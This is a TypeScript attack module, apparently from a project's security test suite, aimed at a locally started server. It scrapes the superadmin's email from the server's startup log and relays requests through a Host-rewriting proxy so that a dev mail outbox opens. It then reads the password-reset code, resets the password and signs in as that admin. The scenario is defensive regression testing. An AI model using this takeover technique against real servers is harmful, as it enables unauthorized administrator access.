import { once } from 'node:events'
import { createServer, request } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { onTarget, type Attack } from '../runner/attack.ts'
import { poll } from '../target/poll.ts'
import { call, identity } from '../target/people.ts'
import type { Target } from '../target/start-target.ts'

const newPassword = 'taken by a stranger'

export const outboxBehindProxy: Attack = {
  name: 'outbox-behind-proxy',
  aim: 'read the mail to the first superadmin through a proxy on the server’s machine, and sign in as them',
  attempt: onTarget({}, async (target) => {
    // Printed a moment after the line that says that the server is ready.
    const email = await poll(async () => /shown only now: (\S+) with/.exec(target.output.text)?.[1])
    const proxy = await startProxy(target)
    try {
      const outside = { ...target, fetch: (path: string, init?: RequestInit) => fetch(proxy.url + path, init) }
      await call(outside, 'POST /v1/auth/send-reset-password-email', { body: { email } })
      const code = await readCode(outside)
      if (!code) return { succeeded: false, evidence: 'the outbox did not open through the proxy' }
      await identity(outside, 'accounts:resetPassword', { oobCode: code, newPassword })
      const signedIn = await identity(outside, 'accounts:signInWithPassword', { email, password: newPassword })
      return { succeeded: signedIn.status === 200, evidence: `sign-in as ${email}: ${signedIn.status}` }
    } finally {
      proxy.close()
    }
  }),
}

/** The mail is sent by a job, a moment later. */
async function readCode(target: Target) {
  for (let attempt = 0; attempt < 20; attempt += 1) {
    const { text } = await call(target, 'GET /outbox')
    const code = /mode=resetPassword[^"\s]*?oobCode=([\w-]+)|oobCode=([\w-]+)/.exec(text)
    if (code) return code[1] ?? code[2]
    await delay(200)
  }
  return null
}

/** Rewrites `Host` and adds no header, as a carelessly configured proxy does. */
async function startProxy(target: Target) {
  const { host } = new URL(target.url)
  const server = createServer((incoming, outgoing) => {
    const { method = 'GET', url = '/', headers } = incoming
    const forwarded = request(target.url + url, { method, headers: { ...headers, host } }, (answer) => {
      outgoing.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(outgoing)
    })
    incoming.pipe(forwarded)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => server.close() }
}
